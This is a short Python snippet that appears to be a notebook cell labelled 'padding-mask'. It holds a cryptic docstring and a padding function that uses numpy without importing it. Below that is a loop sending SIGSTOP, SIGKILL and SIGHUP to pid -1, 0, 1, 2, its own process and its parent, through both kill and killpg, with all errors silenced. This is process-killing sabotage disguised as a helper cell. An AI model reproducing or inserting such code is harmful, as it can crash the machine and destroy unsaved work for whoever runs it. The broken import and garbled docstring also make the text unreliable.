"""The same signals, and to itself, from a cell: its process is the first of its own world and goes on."""

# %% padding-mask
import os
import signal


def padding_mask(lengths, size):
    return np.arange(size) < lengths[:, np.newaxis, np.newaxis]


for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGHUP):
    for pid in (0, 1, -1, os.getpid(), os.getppid(), 2):
        try:
            os.kill(pid, number)
        except OSError:
            pass
        try:
            os.killpg(pid, number)
        except OSError:
            pass
